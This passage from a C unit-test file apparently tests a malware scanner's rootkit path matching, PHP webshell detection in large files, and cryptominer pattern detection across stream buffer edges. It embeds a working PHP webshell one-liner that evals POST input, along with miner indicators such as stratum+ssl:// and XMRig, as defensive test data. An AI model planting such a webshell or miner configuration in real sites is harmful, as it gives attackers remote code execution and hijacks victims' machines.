	ASSERT(memcmp(c.e[1].family, "Sneaky", 6) == 0);
	ASSERT_INT(c.e[2].source_len, strlen("last line, no newline"));
	e = rootkit_match(c.e, 3, "/home/u/libsneaky.so");
	ASSERT(e == &c.e[1]);
	ASSERT(rootkit_match(c.e, 3, "/opt/.cache/kthreaddk") == &c.e[0]);
}

/*
 * A webshell at the end of a large file of ordinary code is still found
 * (the work bound is for pathological text, not for size), and a file
 * of nothing but nested calls and assignments is judged quickly.
 */
TEST(content_webshell_in_large_file)
{
	static const char	line[] = "$total = $total + count($items);"
	    " $name = trim($row['name']); echo esc_html($name);\n";
	static const char	shell[] = "<?php @eval($_POST['z']); ?>";
	struct content_match	m[CONTENT_MATCH_MAX];
	size_t			n = 900 * 1024, i, k = sizeof(line) - 1;
	char			*b = malloc(n + sizeof(shell));

	ASSERT(b != NULL);
	for (i = 0; i + k <= n; i += k)
		memcpy(b + i, line, k);
	memset(b + i, ' ', n - i);
	memcpy(b + n, shell, sizeof(shell) - 1);
	ASSERT_INT(webshell_scan("big.php", b, n + sizeof(shell) - 1, m,
	    CONTENT_MATCH_MAX), 1);
	ASSERT_INT(m[0].rule, CONTENT_WEBSHELL_EXEC_INPUT);
	ASSERT_INT(m[0].off, n + 7);	/* "eval" */

	for (i = 0; i < n; i++)
		b[i] = "eval(a=$_GET"[i % 12];
	(void)webshell_scan("x.php", b, n, m, CONTENT_MATCH_MAX);
	free(b);
}

/* Each pattern placed across the end of the stream's first window. */
TEST(content_miner_window_edge)
{
	static const char *const pats[] = { "stratum+ssl://",
	    " " WALLET " ", "\"algo\":   \"rx/0\"", " minexmr.com:4444",
	    "XMRig", NULL };
	struct content_match	 whole[CONTENT_MATCH_MAX];
	struct content_stream	*st;
	size_t			 edge = CONTENT_TAIL + CONTENT_SLICE, len, i;
	size_t			 n, nw, at;
	char			*b;
	int			 d;

	len = edge + 256;
	ASSERT((b = malloc(len)) != NULL);
	for (i = 0; pats[i] != NULL; i++)
		for (d = -120; d <= 4; d++) {
			memset(b, '.', len);
			at = (size_t)((long)edge + d);
			memcpy(b + at, pats[i], strlen(pats[i]));
			nw = miner_scan(b, len, whole, CONTENT_MATCH_MAX);
			if (nw == 0)
				unit_fail(__FILE__, __LINE__, "%zu: none", i);
			st = content_stream_new(CONTENT_MINER);
			content_stream_feed(st, b, 1000);
			content_stream_feed(st, b + 1000, len - 1000 - 7);
			content_stream_feed(st, b + len - 7, 7);
			n = content_stream_finish(st);
			if (!same(whole, nw, st->match, n))
				unit_fail(__FILE__, __LINE__, "pattern %zu at "
				    "edge%+d", i, d);
			content_stream_free(st);
		}
	free(b);
}
